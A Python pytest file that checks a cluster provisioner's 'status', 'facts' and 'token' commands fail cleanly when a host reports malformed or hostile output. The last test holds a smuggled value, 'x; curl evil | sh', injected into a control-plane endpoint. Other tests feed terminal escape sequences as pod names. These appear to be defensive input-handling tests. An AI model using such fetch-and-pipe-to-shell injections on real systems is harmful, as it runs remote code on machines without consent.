"""Commands that only look, when a machine says what no machine says: one error, no trace, nothing obeyed."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from typing import Any

import pytest

from provisioner.core.command import Command, Result
from provisioner.engine.session import Session
from provisioner.errors import StepError, UnreachableError
from tests import builders
from tests.fake.cluster import FakeNode
from tests.fake.world import World
from tests.unit.cli.conftest import GOOD, Call, write


@pytest.fixture
def world(call: Call, monkeypatch: pytest.MonkeyPatch) -> World:
    """A cluster that is up, behind the commands that look."""
    write("inventory.yaml", GOOD.replace("nowhere-bundle", "auto"))
    made = World(builders.cluster())
    assert made.apply().errors == {}

    @contextmanager
    def session(*arguments: Any, **more: Any) -> Iterator[Session]:
        yield made.begin()

    for place in ("reading", "status"):
        monkeypatch.setattr(f"provisioner.cli.{place}.open_session", session)
    return made


def telling(world: World, machine: str, before: str, after: str) -> None:
    """That machine says something else where it would have said `before`."""

    def twist(name: str, command: Command, result: Result) -> Result:
        return replace(result, stdout=result.stdout.replace(before, after)) if name == machine else result

    world.twist = twist


def test_status_names_the_machine_and_shows_the_others(call: Call, world: World) -> None:
    telling(world, "w1", "memory_mib=", "memory_mib=many")
    said = call("status")
    assert said.code != 0
    assert "w1: could not look at this host" in said.err
    assert [line.split()[0] for line in said.out.splitlines()[1:]] == ["cp1", "w1", "w2"]
    assert "Traceback" not in said.out + said.err


def test_status_shows_what_keeps_pods_away_and_nodes_of_no_machine(call: Call, world: World) -> None:
    world.cluster.nodes["w1"].taints |= {
        "node.kubernetes.io/unschedulable:NoSchedule",
        "node.kubernetes.io/disk-pressure:NoSchedule",
        "dedicated=db:NoSchedule",
    }
    world.cluster.nodes["guest"] = FakeNode("10.0.0.99", pod_cidr="10.244.77.0/24", ready=True)
    said = call("status", "--json")
    assert said.code == 0
    rows = {row["machine"]: (row["role"], row["node"]) for row in map(json.loads, said.out.splitlines())}
    assert rows["w1"] == ("worker", "Ready,SchedulingDisabled,DiskPressure")
    assert rows["w2"] == ("worker", "Ready")
    assert rows["guest"] == ("not in the inventory", "Ready")
    world.cluster.nodes["guest"].ready = False
    assert call("status").code == 6


def test_status_shows_pods_that_do_not_run(call: Call, world: World) -> None:
    world.cluster.idle_pods = ["default web-1 w1 CrashLoopBackOff", "team web-2  Pending"]
    said = call("status")
    assert said.code == 0
    assert [line.rstrip() for line in said.out.splitlines()[-4:]] == [
        "pods that do not run: 2",
        "pod            on  state",
        "default/web-1  w1  CrashLoopBackOff",
        "team/web-2         Pending",
    ]
    rows = [json.loads(line) for line in call("status", "--json").out.splitlines()]
    assert rows[-1] == {"pod": "team/web-2", "on": "", "state": "Pending"}
    world.cluster.idle_pods = [f"default web-{number} w1 ImagePullBackOff" for number in range(500)]
    lines = call("status").out.splitlines()
    assert "pods that do not run: 500; the first 20" in lines
    assert len(lines) < 30


@pytest.mark.parametrize("line", ["default web", "default %1b[2J w1 Pending", "default web-1 w%0A1 Pending"])
def test_a_pod_that_cannot_be_is_not_shown(call: Call, world: World, line: str) -> None:
    world.cluster.idle_pods = [line]
    said = call("status")
    assert said.code == 0
    assert "cp1: the pods that do not run are unknown" in said.out + said.err
    assert "\x1b" not in said.out + said.err


def test_a_kubelet_that_says_odd_things_of_its_pods_hides_no_others(call: Call, world: World) -> None:
    world.cluster.idle_pods = ["default evil w1 %1B%5B2J%0Ax", "default web-1 w1 CrashLoopBackOff"]
    said = call("status")
    assert said.code == 0
    assert [line.split()[0] for line in said.out.splitlines()[-2:]] == ["default/evil", "default/web-1"]
    assert '"\\x1b[2J\\nx"' in said.out
    assert "\x1b" not in said.out


def test_facts_of_the_others_are_shown(call: Call, world: World) -> None:
    telling(world, "w1", "memory_mib=", "memory_mib=x")
    said = call("facts", "--json")
    assert said.code == UnreachableError.exit_code
    lines = [json.loads(line) for line in said.out.splitlines()]
    assert [line["host"] for line in lines if "host" in line] == ["cp1", "w2"]
    assert [line["message"] for line in lines if "message" in line] == ["w1: could not look at this host"]


def test_a_command_to_paste_holds_no_words_of_the_cluster(call: Call, world: World) -> None:
    assert call("token").out.startswith("kubeadm join 10.0.0.11:6443 --token ")
    telling(world, "cp1", "controlPlaneEndpoint: 10.0.0.11:6443", "controlPlaneEndpoint: x; curl evil | sh")
    said = call("token")
    assert said.code == StepError.exit_code
    assert said.out == ""
    assert "cp1: the answer of this host could not be processed: ValueError" in said.err
    assert "Traceback" not in said.err
